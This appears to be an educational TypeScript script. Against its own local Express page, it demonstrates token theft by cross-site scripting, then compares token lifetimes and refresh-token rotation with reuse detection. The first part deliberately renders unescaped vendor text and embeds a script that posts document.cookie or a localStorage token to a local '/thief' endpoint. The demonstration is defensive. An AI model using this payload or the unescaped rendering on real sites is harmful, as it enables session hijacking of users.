// Tokens of our own marketplace are stolen from our own vulnerable page, and used as time goes by. Three parts, one for each
// defence. Look for: what a smuggled script can read in each storage, how long a stolen access token is of use, and what
// becomes of a stolen refresh token when each works once. The clock is ours: no part waits for minutes.
import { randomUUID } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import express from 'express'
import jwt from 'jsonwebtoken'

const SECRET = 'north-mill-and-salt-and-co-0123456789'
const MINUTE = 60
const DAY = 24 * 60 * MINUTE
let now = 1_800_000_000

await storages()
lifetimes()
rotations()

/** A vendor has written a script into a product's text, and our page shows the text as it is. A real DOM runs it. */
async function storages(): Promise<void> {
  console.log('1  What a smuggled script reads in the page of a retailer')
  const jsdom = await import('jsdom').catch(() => undefined)
  if (!jsdom) return console.log('   (needs the package jsdom, which is not installed)')
  const loot: string[] = []
  const app = express().use(express.text())
  app.post('/thief', (request, response) => {
    loot.push(request.body)
    response.sendStatus(204)
  })
  const smuggled = `<script>
    const request = new XMLHttpRequest()
    request.open('POST', '/thief')
    request.setRequestHeader('Content-Type', 'text/plain')
    request.send(document.cookie || localStorage.getItem('token') || '')
  </script>`
  const token = jwt.sign({ sub: 'ret_7', iat: now }, SECRET, { expiresIn: 15 * MINUTE })
  app.get('/localStorage', (_request, response) => {
    response.send(`<script>localStorage.setItem('token', '${token}')</script><p>Rye flour ${smuggled}</p>`)
  })
  app.get('/cookie', (_request, response) => {
    response.cookie('token', token).send(`<p>Rye flour ${smuggled}</p>`)
  })
  app.get('/httpOnly', (_request, response) => {
    response.cookie('token', token, { httpOnly: true, sameSite: 'strict' }).send(`<p>Rye flour ${smuggled}</p>`)
  })
  const server = createServer(app)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  for (const storage of ['localStorage', 'cookie', 'httpOnly']) {
    loot.length = 0
    const page = await jsdom.JSDOM.fromURL(`${url}/${storage}`, { runScripts: 'dangerously' })
    while (loot.length === 0) await new Promise((resolve) => setTimeout(resolve, 5))
    page.window.close()
    const [stolen = ''] = loot
    console.log(`   ${storage.padEnd(13)} ${stolen.includes(token) ? `stolen: ${stolen.slice(0, 40)}…` : 'nothing'}`)
  }
  server.close()
  server.closeAllConnections()
}

/** An access token is not looked up. Once stolen, it works until it expires, whatever its owner does. */
function lifetimes(): void {
  console.log('\n2  How long a stolen access token works')
  console.log('   lifetime      after 1 min   after 14 min   after 15 min   after 29 days')
  for (const [name, expiresIn] of [
    ['30 days', 30 * DAY],
    ['15 minutes', 15 * MINUTE],
  ] as const) {
    const stolen = jwt.sign({ sub: 'ret_7', iat: now }, SECRET, { expiresIn })
    const cells = [MINUTE, 14 * MINUTE, 15 * MINUTE, 29 * DAY].map((later) => {
      try {
        jwt.verify(stolen, SECRET, { algorithms: ['HS256'], clockTimestamp: now + later })
        return 'works'
      } catch (error) {
        return (error as Error).message
      }
    })
    console.log(`   ${name.padEnd(13)} ${cells.map((cell, at) => cell.padEnd(at ? 14 : 13)).join(' ')}`.trimEnd())
  }
}

interface Session {
  current: string
  isOpen: boolean
}

type Rule = (session: Session, token: string, issued: Set<string>) => string | undefined

/** The owner logs in, the thief copies the token, and from then on each refreshes every 14 minutes, the thief first. */
function rotations(): void {
  console.log('\n3  A stolen refresh token, used by the thief, then by the owner, and so on')
  const renew = (session: Session, issued: Set<string>) => {
    session.current = randomUUID()
    issued.add(session.current)
    return session.current
  }
  const rules: Record<string, Rule> = {
    'one token for 7 days': (_session, token, issued) => (issued.has(token) ? token : undefined),
    rotation: (session, token, issued) => (token === session.current ? renew(session, issued) : undefined),
    'rotation + reuse detection': (session, token, issued) => {
      if (session.isOpen && token === session.current) return renew(session, issued)
      if (issued.has(token)) session.isOpen = false
      return undefined
    },
  }
  console.log('   rule                        thief   owner   thief   owner   thief')
  for (const [name, rule] of Object.entries(rules)) {
    const session = { current: 'first', isOpen: true }
    const issued = new Set(['first'])
    const holds = { thief: 'first', owner: 'first' }
    const cells = (['thief', 'owner', 'thief', 'owner', 'thief'] as const).map((who) => {
      now += 7 * MINUTE
      const token = rule(session, holds[who], issued)
      if (token) holds[who] = token
      return token ? 'in' : 'out'
    })
    console.log(`   ${name.padEnd(27)} ${cells.map((cell) => cell.padEnd(7)).join(' ')}`.trimEnd())
  }
  console.log('   With detection both have to log in again. Only the owner has the password.')
}
